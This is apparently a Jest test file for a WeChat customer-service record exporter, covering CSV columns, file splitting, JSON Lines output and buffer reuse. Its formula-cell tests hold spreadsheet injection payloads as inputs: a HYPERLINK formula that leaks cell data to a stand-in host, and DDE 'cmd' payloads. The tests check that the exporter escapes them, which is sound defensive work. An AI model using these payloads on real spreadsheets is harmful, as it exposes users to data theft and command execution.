import { csvField, recordFiles, type RecordFile } from '../../../nodes/WeChatCustomerService/resources/record/recordFiles';
import type { KfRecord } from '../../../nodes/WeChatCustomerService/client/types';
import { ZonedFormatter } from '../../../nodes/shared/zonedTime';

const zone = new ZonedFormatter('Asia/Shanghai');
/** 2024-03-01 00:00:00 China time. */
const T0 = 1709222400;

function record(i: number, fields: Partial<KfRecord> = {}): KfRecord {
	return { worker: 'w@oa', openid: `o_${i}`, opercode: 2002, time: T0 + i, text: `t${i}`, ...fields };
}

async function filesOf(pages: KfRecord[][], format: 'csv' | 'jsonl', perFile = 100_000): Promise<RecordFile[]> {
	async function* source() {
		yield* pages;
	}
	const out: RecordFile[] = [];
	// Copied: the next file reuses the buffer.
	for await (const file of recordFiles(source(), format, zone, perFile)) out.push({ ...file, bytes: Buffer.from(file.bytes) });
	return out;
}

async function csvOf(pages: KfRecord[][]): Promise<string> {
	const [file, ...more] = await filesOf(pages, 'csv');
	expect(more).toHaveLength(0);
	return file.bytes.toString('utf8');
}

const HEADER = '\uFEFFtime_iso,operation,worker,openid,text,opercode,time';

describe('record CSV columns', () => {
	it('are the item fields whatever the first record lacks, then the first record’s extra fields; a missing field is an empty cell', async () => {
		const first = { openid: 'o_a', opercode: 1000, time: 1709222400, extra: 'x' } as unknown as KfRecord;
		const second: KfRecord = { worker: 'w@oa', openid: 'o_b', opercode: 2002, time: 1709222401, text: 'hi' };
		expect((await csvOf([[first], [second]])).split('\r\n')).toEqual([
			`${HEADER},extra`,
			'2024-03-01T00:00:00+08:00,sessionCreatedUnaccepted,,o_a,,1000,1709222400,x',
			'2024-03-01T00:00:01+08:00,agentSent,w@oa,o_b,hi,2002,1709222401,',
			'',
		]);
	});
});

describe('record CSV formula cells', () => {
	it.each([
		['=', '=HYPERLINK("http://evil.example/?leak="&E2,"click")', `"'=HYPERLINK(""http://evil.example/?leak=""&E2,""click"")"`],
		['+', "+1+cmd|' /C calc'!A0", `"'+1+cmd|' /C calc'!A0"`],
		['-', '-2+3', `"'-2+3"`],
		['@', "@SUM(1+1)*cmd|' /C calc'!A0", `"'@SUM(1+1)*cmd|' /C calc'!A0"`],
		['TAB', '\t=1+1', `"'\t=1+1"`],
		['CR', '\r=1+1', `"'\r=1+1"`],
	])('a cell starting with %s gets a leading \' and quotes, in every column', async (_name, cell, written) => {
		const rec = { worker: cell, openid: cell, opercode: 2002, time: T0, text: cell, [cell]: cell } as KfRecord;
		expect((await csvOf([[rec]])).split('\r\n')).toEqual([
			`${HEADER},${written}`,
			`2024-03-01T00:00:00+08:00,agentSent,${written},${written},${written},2002,${T0},${written}`,
			'',
		]);
	});

	it('leaves the same characters alone past the first one, and other first characters (space, LF, quote)', () => {
		expect(['a=b', 'x-1', 'mail@example.com', ' =1', '\n=1', '"=1"', '', '1'].map(csvField)).toEqual([
			'a=b',
			'x-1',
			'mail@example.com',
			' =1',
			'"\n=1"',
			'"""=1"""',
			'',
			'1',
		]);
	});

	it('applies to numbers too: WeChat’s opercode and time are never negative, a negative number WeChat might add is written as text', () => {
		expect([2002, T0, 0, -5, -0.5].map(csvField)).toEqual(['2002', String(T0), '0', `"'-5"`, `"'-0.5"`]);
	});
});

describe('record files of at most N records', () => {
	const records = [1, 2, 3, 4, 5].map((i) => record(i, i === 1 ? { extra: 'x' } : {}));

	it('splits into numbered parts with the same header in each; the last part says so', async () => {
		const files = await filesOf([records.slice(0, 3), records.slice(3)], 'csv', 2);
		expect(files.map(({ part, last, records: n }) => ({ part, last, n }))).toEqual([
			{ part: 1, last: false, n: 2 },
			{ part: 2, last: false, n: 2 },
			{ part: 3, last: true, n: 1 },
		]);
		const rows = (f: RecordFile) => f.bytes.toString('utf8').split('\r\n');
		for (const file of files) expect(rows(file)[0]).toBe(`${HEADER},extra`);
		expect(rows(files[0]).slice(1)).toEqual([
			`2024-03-01T00:00:01+08:00,agentSent,w@oa,o_1,t1,2002,${T0 + 1},x`,
			`2024-03-01T00:00:02+08:00,agentSent,w@oa,o_2,t2,2002,${T0 + 2},`,
			'',
		]);
		expect(rows(files[2]).slice(1)).toEqual([`2024-03-01T00:00:05+08:00,agentSent,w@oa,o_5,t5,2002,${T0 + 5},`, '']);
	});

	it('JSON Lines parts together are byte for byte the unsplit file; a range that fills the last part exactly makes no empty part', async () => {
		const [whole] = await filesOf([records.slice(0, 2), records.slice(2, 4)], 'jsonl');
		const parts = await filesOf([records.slice(0, 2), records.slice(2, 4)], 'jsonl', 2);
		expect(parts.map((f) => [f.part, f.last, f.records])).toEqual([
			[1, false, 2],
			[2, true, 2],
		]);
		expect(Buffer.concat(parts.map((f) => f.bytes)).equals(whole.bytes)).toBe(true);
		expect(whole.bytes.toString('utf8').split('\n')).toHaveLength(5);
	});

	it('an empty range is one empty file (CSV: BOM and header)', async () => {
		expect((await filesOf([[]], 'jsonl', 2)).map((f) => [f.part, f.last, f.records, f.bytes.length])).toEqual([[1, true, 0, 0]]);
		const [csv, ...more] = await filesOf([], 'csv', 2);
		expect(more).toHaveLength(0);
		expect(csv.bytes.toString('utf8')).toBe(`${HEADER}\r\n`);
	});

	it('hands out every file in one reused buffer, each file’s bytes complete until the next is asked for', async () => {
		async function* pages() {
			yield [record(1, { text: '长'.repeat(400_000) }), record(2)];
			yield [record(3)];
		}
		const seen: string[] = [];
		const buffers = new Set<ArrayBuffer>();
		for await (const file of recordFiles(pages(), 'jsonl', zone, 1)) {
			seen.push(file.bytes.toString('utf8'));
			buffers.add(file.bytes.buffer as ArrayBuffer);
		}
		expect(seen.map((t) => (JSON.parse(t) as { openid: string }).openid)).toEqual(['o_1', 'o_2', 'o_3']);
		const long = { time_iso: '2024-03-01T00:00:01+08:00', operation: 'agentSent', worker: 'w@oa', openid: 'o_1', text: '长'.repeat(400_000), opercode: 2002, time: T0 + 1 };
		expect(seen[0]).toBe(`${JSON.stringify(long)}\n`);
		expect(buffers.size).toBe(1);
	});

	it('reserves towards a full file at the average record size, at most 16 times what the records need', async () => {
		const capacities: Array<[number, number]> = [];
		async function* pages() {
			yield Array.from({ length: 3000 }, (_, i) => record(i));
		}
		for await (const file of recordFiles(pages(), 'jsonl', zone, 1_000_000)) capacities.push([file.bytes.length, file.bytes.buffer.byteLength]);
		const [[bytes, capacity]] = capacities;
		expect(capacity).toBeGreaterThanOrEqual(bytes);
		expect(capacity).toBeLessThanOrEqual(16 * bytes);
		const small: number[] = [];
		for await (const file of recordFiles((async function* () { yield [record(1)]; })(), 'jsonl', zone, 1_000_000)) small.push(file.bytes.buffer.byteLength);
		expect(small).toEqual([4096]);
	});

	it('reads the next page only when the caller asks for the next file', async () => {
		let pulled = 0;
		async function* pages() {
			for (let p = 0; p < 4; p++) {
				pulled++;
				yield [record(2 * p), record(2 * p + 1)];
			}
		}
		const seen: number[] = [];
		for await (const file of recordFiles(pages(), 'jsonl', zone, 2)) seen.push(file.part, pulled);
		// A full file is handed out on the next record: file 1 after page 2 is read, never later.
		expect(seen).toEqual([1, 2, 2, 3, 3, 4, 4, 4]);
	});
});
